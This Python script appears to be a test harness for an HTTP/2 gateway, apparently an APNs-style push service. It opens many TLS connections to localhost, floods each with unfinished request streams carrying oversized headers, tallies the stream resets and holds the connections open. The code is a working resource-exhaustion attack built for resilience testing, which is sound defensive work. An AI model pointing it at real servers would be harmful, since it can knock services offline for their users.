#!/usr/bin/env python3
"""Senders of HTTP/2 at the gateway that mean harm: many connections, each with many requests that never end.

Prints one JSON object once it is known what became of each connection, and then holds them open until it is killed.
"""
import argparse
import json
import socket
import ssl
import struct
import time

# How long what has to come is waited for, in seconds.
PATIENCE = 3


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    def text(data):
        data = data.encode()
        if len(data) < 127:
            return bytes([len(data)]) + data
        rest, number = len(data) - 127, [127]
        while rest >= 128:
            number.append(rest % 128 + 128)
            rest //= 128
        return bytes(number + [rest]) + data
    return b"\0" + text(name) + text(value)


def headers(size):
    return b"".join(literal(*pair) for pair in [
        (":method", "POST"), (":scheme", "https"), (":path", "/3/device/" + "ab" * 32), (":authority", "x"),
        ("apns-collapse-id", "x" * size)])


class Sender:
    def __init__(self, args, context):
        self.is_open, self.received, self.resets = True, b"", {}
        block = headers(args.size)
        try:
            raw = socket.create_connection(("127.0.0.1", args.port), timeout=30)
            self.connection = context.wrap_socket(raw, server_hostname="localhost")
            self.connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
            for first in range(0, args.streams, 50):
                self.connection.sendall(b"".join(
                    frame(1, 4, 2 * stream + 1, block) for stream in range(first, min(first + 50, args.streams))))
        except (OSError, ssl.SSLError):
            self.is_open = False

    def read(self):
        """Whether anything came."""
        if not self.is_open:
            return False
        try:
            self.connection.settimeout(0.02)
            more = self.connection.recv(65536)
            self.is_open = bool(more)
        except (socket.timeout, TimeoutError):
            return False
        except (OSError, ssl.SSLError):
            self.is_open = False
            return True
        self.received += more
        while len(self.received) >= 9 and len(self.received) >= 9 + int.from_bytes(self.received[:3], "big"):
            length, kind = int.from_bytes(self.received[:3], "big"), self.received[3]
            if kind == 3:
                code = int.from_bytes(self.received[9:13], "big")
                self.resets[code] = self.resets.get(code, 0) + 1
            self.received = self.received[9 + length:]
        return True


def main():
    parser = argparse.ArgumentParser()
    for name, default in [("port", None), ("connections", 100), ("streams", 500), ("size", 7000)]:
        parser.add_argument(f"--{name}", type=int, default=default)
    parser.add_argument("--cert", required=True)
    parser.add_argument("--key", required=True)
    args = parser.parse_args()
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.load_cert_chain(args.cert, args.key)
    context.set_alpn_protocols(["h2"])
    senders = [Sender(args, context) for _ in range(args.connections)]
    last = time.monotonic()
    while time.monotonic() - last < PATIENCE:
        if any([sender.read() for sender in senders]):
            last = time.monotonic()
    resets = {}
    for sender in senders:
        for code, count in sender.resets.items():
            resets[code] = resets.get(code, 0) + count
    held = sum(sender.is_open for sender in senders)
    print(json.dumps({"open": held, "closed": len(senders) - held, "resets": resets}), flush=True)
    time.sleep(3600)


if __name__ == "__main__":
    main()
